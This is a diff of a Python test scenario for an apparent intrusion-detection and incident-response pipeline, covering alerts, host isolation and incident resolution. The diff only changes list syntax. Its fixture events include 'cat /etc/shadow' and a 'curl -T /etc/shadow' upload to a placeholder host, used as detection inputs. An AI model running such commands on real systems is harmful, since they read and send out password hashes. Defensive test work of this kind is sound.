@@ -20,19 +20,19 @@ def scenario() -> tuple[list[Output], str]:
     outs: list[Output] = []
     e1 = event(n=1, command="cat /etc/shadow")
     a1 = alert(e1, severity="high", score=70)
-    outs += [a1] + tr.on_outputs(e1, [a1])
+    outs += [a1, *tr.on_outputs(e1, [a1])]
     inc = incident_id_for("agent-1", e1.event_id)
     e2 = event(n=2, ts=T0 + 20, command="curl -T /etc/shadow http://x.example")
     a2 = alert(e2, severity="critical", score=97, rule="exfil", first_event=e2, incident=inc)
     cmd = command(e2, "isolate", incident=inc)
-    outs += [a2, cmd] + tr.on_outputs(e2, [a2, cmd])
+    outs += [a2, cmd, *tr.on_outputs(e2, [a2, cmd])]
     outs += tr.on_ack(ack(cmd, at=T0 + 20.3))
     outs += tr.on_control(control("agent-1", inc, assignee="dave", comment="mine"))
     outs += tr.on_control(control("agent-1", inc, ts=T0 + 3600, status="resolved", disposition="true_positive",
                                   comment="creds rotated"))
     e3 = event(agent="agent-2", n=1, ts=T0 + 50)
     a3 = alert(e3, severity="medium", score=45, rule="recon")
-    outs += [a3] + tr.on_outputs(e3, [a3])
+    outs += [a3, *tr.on_outputs(e3, [a3])]
     return outs, inc
 
 
